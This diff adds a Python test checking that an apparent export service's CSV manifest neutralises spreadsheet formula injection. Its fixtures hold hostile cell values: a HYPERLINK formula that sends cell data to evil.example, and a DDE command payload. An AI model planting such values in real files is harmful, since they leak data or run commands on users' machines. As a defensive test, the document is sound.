@@ -285,3 +285,20 @@ def test_company_storage_on_s3_with_presigned_links(session, moto_server, tmp_pa
     exported = _export(session, job.uuid, path=tmp_path / "s3.zip")
     with zipfile.ZipFile(tmp_path / "s3.zip") as archive:
         assert exported.count == 1 and archive.read(f"Αριστοτέλης-Παπαδόπουλος-{result.code}.pdf") == pdf
+
+
+def test_the_manifest_is_safe_to_open_in_a_spreadsheet(session, tmp_path):
+    import csv
+    import io
+
+    people = [("eve@example.com", "=HYPERLINK(\"http://evil.example/?\"&A1)", "Doe"),
+              ("mal@example.com", "+1+cmd|' /C calc'!A0", "Mal")]
+    job = make_job(session, people, template_data={"course_name": "@SUM(1+1)"})
+    service.prepare_batch(session=session, job=job, recipients=recipients_of(session, job))
+    _export(session, job.uuid[:8], path=tmp_path / "m.zip")
+    with zipfile.ZipFile(tmp_path / "m.zip") as archive:
+        rows = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'@SUM(1+1)" in cells and any(c.startswith("'=HYPERLINK") for c in cells)
+    assert any(c.startswith("'+1+cmd") for c in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
